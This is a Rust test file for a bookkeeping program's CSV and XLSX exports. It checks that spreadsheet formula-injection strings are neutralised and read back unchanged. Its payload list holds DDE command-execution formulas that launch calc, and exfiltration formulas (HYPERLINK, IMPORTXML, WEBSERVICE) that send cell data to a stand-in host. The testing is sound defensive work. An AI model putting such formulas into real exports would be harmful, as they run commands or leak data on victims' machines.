//! Texts that a spreadsheet would run as formulas: none is run from a csv or a workbook that the
//! program writes, and each is read back as it was.

use crate::support::book::{blank, event, record};
use crate::support::foreign::{Asked, written};
use calamine::{Data, Reader as _, Xlsx};
use poolbook::domain::text::runs_as_formula;
use poolbook::report::export::{flat, sheet};
use serde_json::json;
use std::io::{Cursor, Read as _};

/// What the OWASP page on csv injection lists, the forms that known programs run, and the same
/// after blanks, quotes, full-width signs and characters that are not seen. All can stand in a memo.
const PAYLOADS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.invalid?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://x.invalid?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x.invalid\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=2+5+cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+86 391 8888888",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u{2212}1",
    "\"=1+1\"",
    "\"\"=1",
    "'=1+1",
    "''=1",
    "\"'=1",
    "“=1”",
    "‘+1",
    "＂=1",
    "x;=1+1",
    "x,=1+1",
    "x\",=1+1",
    "x\"\",\"=1",
    ";=1",
    "甲=1",
    "1=1",
    "'甲",
    "{=1}",
    "%0A=1",
    "[=1]",
    "|cmd",
];

/// The cells as a spreadsheet sees them.
fn cells(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .flexible(true)
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{FEFF}').as_bytes());
    let records = reader.records().map(|record| record.unwrap());
    records.map(|record| record.iter().map(str::to_owned).collect()).collect()
}

/// Runs, by a rule of its own: the first sign that is no blank and no quote.
fn runs(cell: &str) -> bool {
    let quotes = ['"', '“', '”', '‘', '’', '＂', ' ', '\u{3000}', '\u{A0}', '\u{200B}', '\u{FEFF}'];
    let first = cell.trim_start_matches(quotes).chars().next();
    let is_number = cell.parse::<f64>().is_ok();
    !is_number && first.is_some_and(|c| "=+-@＝＋－＠\u{2212}\t\r\n".contains(c))
}

#[test]
fn no_text_of_an_export_runs_and_all_come_back() {
    let mut book = blank();
    let mut life = vec![
        json!({"event": "open-book", "id": "1", "date": "2017-01-01", "city": "410800",
            "name": "焦作市", "currency": "CNY"}),
        json!({"event": "join", "id": "2", "date": "2017-01-01", "owner": "410821"}),
        json!({"event": "bank-account", "id": "3", "date": "2017-01-01", "owner": "410821",
            "fund": "RISK", "bank_account": "A"}),
    ];
    for (number, payload) in PAYLOADS.iter().enumerate() {
        life.push(json!({"event": "contribute", "id": format!("C{number}"), "date": "2017-03-02",
            "owner": "410821", "source": "county", "bank_account": "A", "amount": "1.00",
            "memo": payload, "document": payload}));
    }
    let events: Vec<_> = life.iter().map(|value| event(&value.to_string())).collect();
    record(&mut book, &events);
    let bytes = written(&book, Asked::default(), |source, sink| flat::csv(source, sink).unwrap());
    let text = String::from_utf8(bytes).unwrap();
    let rows = cells(&text);
    let memo = rows[0].iter().position(|name| name == "memo").unwrap();
    let document = rows[0].iter().position(|name| name == "document").unwrap();
    let mut found: Vec<&str> = Vec::new();
    for row in &rows[1..] {
        for cell in row {
            assert!(!runs(cell), "{cell}");
        }
        for place in [memo, document] {
            let cell = row[place].as_str();
            let plain = cell.strip_prefix('\'').filter(|rest| runs_as_formula(rest));
            found.push(plain.unwrap_or(cell));
        }
    }
    for payload in PAYLOADS {
        let times = found.iter().filter(|text| *text == payload).count();
        assert!(times >= 2, "{payload}: {times} of {found:?}");
    }
    let bytes =
        written(&book, Asked::default(), |source, sink| sheet::workbook(source, sink).unwrap());
    let mut archive = zip::ZipArchive::new(Cursor::new(&bytes)).unwrap();
    let mut xml = String::new();
    archive.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut xml).unwrap();
    assert!(!xml.contains("<f>") && !xml.contains("<f ") && xml.contains("<row"));
    let mut read = Xlsx::new(Cursor::new(bytes.as_slice())).unwrap();
    let range = read.worksheet_range_at(0).unwrap().unwrap();
    for payload in PAYLOADS {
        let is =
            |cell: &(usize, usize, &Data)| matches!(cell.2, Data::String(text) if text == payload);
        assert!(range.used_cells().filter(is).count() >= 2, "{payload}");
    }
    assert!(!archive.file_names().flatten().any(|name| name.contains("externalLink")));
}
